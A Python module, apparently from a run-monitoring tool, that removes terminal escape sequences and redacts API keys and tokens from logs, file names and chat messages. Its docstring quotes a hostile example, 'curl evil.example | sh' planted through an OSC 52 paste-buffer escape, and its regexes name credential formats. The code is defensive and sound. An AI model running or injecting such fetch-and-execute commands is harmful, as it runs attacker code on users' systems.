"""What may leave runtop: printable text with secrets hidden.

Two hazards live in a run's logs and configs:
- **Terminal escapes.** A log line carrying OSC 52 set the tmux paste buffer to
  `curl evil.example | sh`; OSC 2 renamed the pane; a BEL-terminated OSC hid the lines
  after it. Only printable text may reach a terminal, a markdown file or STATUS.md:
  every ESC sequence (CSI, OSC, DCS, APC, PM, SOS, two-byte), every C0/C1 control but
  tab and newline, and the bidi overrides that reorder what a reader sees.
- **Secrets.** Shell traces print `export WANDB_API_KEY=…`, launch lines carry
  `--api-key sk-…`, an OpenAI error quotes the key it rejected.

`printable` and `redact` are for text that is written (markdown, JSON, STATUS.md, the
audit log, command output); `mask` does both without changing the text's length, so
that a Rich `Text`'s styles stay on the right characters (the TUI's one chokepoint).
Every pattern is linear in the line's length (tests/unit/parsers/test_regex_linear.py).
"""

from __future__ import annotations

import functools
import re

# ---- escapes and controls ------------------------------------------------------
# An unterminated string sequence ends at the line's end, never later: a lost BEL must
# not swallow the lines after it.
ESC_SEQ_RE_B = re.compile(
    rb"\x1b(?:\[[0-?]*[ -/]*[@-~]?"  # CSI
    rb"|[\]PX^_][^\x07\x1b\n]*(?:\x07|\x1b\\)?"  # OSC, DCS, SOS, PM, APC … BEL or ST
    rb"|[ -/]*[0-~]?)"  # two-byte and charset sequences; a lone ESC
)
# C0 controls but tab, newline and `\r` (tqdm frames: `clean_bytes` turns them into lines),
# deleted with `bytes.translate` (a GB backfill pays for this on every byte).
C0_BYTES = bytes([*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F])
# After decoding: C1 controls (U+0080–U+009F: U+009B is an 8-bit CSI) and bidi overrides.
UNSAFE_RE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
ESC_SEQ_RE = re.compile(
    "\x1b(?:\\[[0-?]*[ -/]*[@-~]?|[\\]PX^_][^\x07\x1b\n]*(?:\x07|\x1b\\\\)?|[ -/]*[0-~]?)"
    "|\x9b[0-?]*[ -/]*[@-~]?"
)


def strip_escapes_bytes(data: bytes) -> bytes:
    """Raw log bytes without escape sequences or C0 controls (tab, `\\n`, `\\r` stay)."""
    if b"\x1b" in data:
        data = ESC_SEQ_RE_B.sub(b"", data)
    return data.translate(None, C0_BYTES)


def printable(text: str) -> str:
    """`text` with every escape sequence and control removed; newlines and tabs stay."""
    if text.isascii() and text.isprintable():
        return text
    if "\x1b" in text or "\x9b" in text:
        text = ESC_SEQ_RE.sub("", text)
    return UNSAFE_RE.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))


# ---- secrets -------------------------------------------------------------------
# A quoted value (spaces allowed), else everything up to a space, quote or separator.
_VALUE = r"(?:\"[^\"\n]*\"|'[^'\n]*'|[^\s'\",;}\]]+)"
# The name part of `NAME=value`, `"name": "value"`, `--name value`: a key whose last
# word is a credential word. `tokens`/`tokenizer` do not end in one (`max_tokens: 128`).
_CRED = r"(?:api[_-]?key|access[_-]?key|secret[_-]?key|private[_-]?key|secret|token|passw(?:or)?d|passwd|credentials?|auth[_-]?key|_key)"
# A name starts at a word start (lookbehind) and is at most 64 characters: linear, never a rescan.
_NAME = rf"(?<![\w.-])[\w.-]{{0,64}}?{_CRED}(?![\w-])"
ASSIGN_RE = re.compile(rf"(?i)(\"?{_NAME}\"?\s*[=:]\s*)({_VALUE})")
FLAG_RE = re.compile(rf"(?i)((?<![\w-])--?[\w.-]{{0,64}}?(?:key|token|secret|passw(?:or)?d)(?![\w-])\s+)({_VALUE})")
URL_USERINFO_RE = re.compile(r"(?i)(?<![\w+.-])([a-z][a-z0-9+.-]{0,20}://[^\s/:@]{1,256}:)([^\s/@]{1,256})(@)")
AUTH_HEADER_RE = re.compile(r"(?i)((?<![\w-])(?:proxy-)?authorization\"?\s*[:=]\s*\"?(?:(?:basic|bearer|token|digest)\s+)?)([^\s\"',;]+)")
BEARER_RE = re.compile(r"(?i)((?<![\w-])bearer\s+)([A-Za-z0-9._~+/=-]{8,})")
# Tokens known by their prefix, wherever they stand.
TOKEN_RE = re.compile(
    r"(?<![\w-])()("
    r"sk-(?:proj-|ant-|live-|test-)?[A-Za-z0-9_-]{16,}"
    r"|hf_[A-Za-z0-9]{16,}"
    r"|gh[pousr]_[A-Za-z0-9]{20,}"
    r"|github_pat_[A-Za-z0-9_]{20,}"
    r"|xox[abposr]-[A-Za-z0-9-]{10,}"
    r"|(?:AKIA|ASIA)[0-9A-Z]{16}"
    r"|glpat-[A-Za-z0-9_-]{20,}"
    r"|wandb_v1_[A-Za-z0-9_]{20,}"
    r")",
    re.ASCII,
)
SECRET_PATTERNS = (URL_USERINFO_RE, AUTH_HEADER_RE, BEARER_RE, FLAG_RE, ASSIGN_RE, TOKEN_RE)
_QUICK = re.compile(
    r"(?i)key|token|secret|passw|credential|auth|bearer|://|sk-|hf_|gh[pousr]_|github_pat|xox|AKIA|ASIA|glpat|wandb_v1"
)


def secret_spans(text: str) -> list[tuple[int, int]]:
    """(start, end) of every secret value in `text`, merged, in order."""
    if not _QUICK.search(text):
        return []
    spans: list[tuple[int, int]] = []
    for pat in SECRET_PATTERNS:
        for m in pat.finditer(text):
            start, end = m.span(2)
            if end > start:
                # A quoted value keeps its quotes: `"***"` still reads as a string.
                if text[start] in "\"'" and end - start >= 2 and text[end - 1] == text[start]:
                    start, end = start + 1, end - 1
                if end > start:
                    spans.append((start, end))
    if not spans:
        return []
    spans.sort()
    merged = [spans[0]]
    for s, e in spans[1:]:
        if s <= merged[-1][1]:
            merged[-1] = (merged[-1][0], max(merged[-1][1], e))
        else:
            merged.append((s, e))
    return merged


def redact(text: str) -> str:
    """`text` with every secret value replaced by `***`."""
    spans = secret_spans(text)
    if not spans:
        return text
    out, pos = [], 0
    for s, e in spans:
        out.append(text[pos:s])
        out.append("***")
        pos = e
    out.append(text[pos:])
    return "".join(out)


def public(text: str) -> str:
    """What may be written anywhere a person reads: printable, secrets hidden."""
    if len(text) <= _SHORT:
        return _public_short(text)
    return redact(printable(text))


# JSON keys and step-table labels repeat tens of thousands of times in one `status --json`.
_SHORT = 96


@functools.lru_cache(maxsize=8192)
def _public_short(text: str) -> str:
    return redact(printable(text))


_MASK_TABLE = {c: "\ufffd" for c in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0), 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)]}


def mask(text: str) -> str:
    """Like `public`, but the same length: each control becomes `�` (an ESC sequence's
    other characters are harmless once its ESC is gone) and each secret character `*`."""
    if not (text.isascii() and text.isprintable()):
        text = text.translate(_MASK_TABLE)
    spans = secret_spans(text)
    if not spans:
        return text
    chars = list(text)
    for s, e in spans:
        chars[s:e] = "*" * (e - s)
    return "".join(chars)


# ---- names ---------------------------------------------------------------------
# A file or run name is one item on one line. A newline in a run dir's name forged a row of
# `status --all`; in a log's name, a line of STATUS.md. Every control (newline and tab too),
# DEL, the C1 controls and the bidi and line-separator characters are written as escapes.
_NAME_UNSAFE_RE = re.compile("[\x00-\x1f\x7f-\x9f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
_NAMED_ESCAPES = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}


def _escape(m: re.Match[str]) -> str:
    c = m.group(0)
    return _NAMED_ESCAPES.get(c) or (f"\\x{ord(c):02x}" if ord(c) < 0x100 else f"\\u{ord(c):04x}")


def shown(name: str) -> str:
    """`name` (a path, a run's name) as it may stand in a line: `run\\nHealthy` for a name
    holding a newline, never two lines."""
    if name.isascii() and name.isprintable():
        return name
    return _NAME_UNSAFE_RE.sub(_escape, name)


# ---- mass mentions -------------------------------------------------------------
# Text sent to a chat (an exception's message, a log line) must not page a whole server:
# `@everyone` in a traceback reached a Discord webhook and pinged every member. A zero-width
# space after the `@` (or the `<` of Slack's `<!channel>`) keeps the words readable and
# leaves nothing a chat service parses as a mention.
# Discord finds `@everyone` and `@here` anywhere, inside a word too.
MENTION_RE = re.compile(r"(?i)@(?=everyone|here)|@(?=(?:channel|all|group)\b)|<(?=!(?:channel|here|everyone|subteam\^)|@&)")
ZWSP = "\u200b"


def unmention(text: str) -> str:
    """`text` with every mass mention (`@everyone`, `@here`, `@channel`, `<!channel>`, a
    Discord role `<@&id>`) broken so that no chat service pings anyone."""
    if "@" not in text and "<" not in text:
        return text
    return MENTION_RE.sub(lambda m: m.group(0) + ZWSP, text)
